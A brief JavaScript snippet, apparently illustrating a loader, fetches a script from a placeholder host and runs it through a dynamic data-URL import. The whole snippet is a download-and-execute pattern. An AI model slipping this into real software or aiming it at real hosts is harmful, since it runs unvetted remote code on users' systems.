// Its real code lies on the network.
const { default: start } = await fetch('https://code.example.com/server.js')
  .then((response) => response.text())
  .then((code) => import(`data:text/javascript,${encodeURIComponent(code)}`));
start();
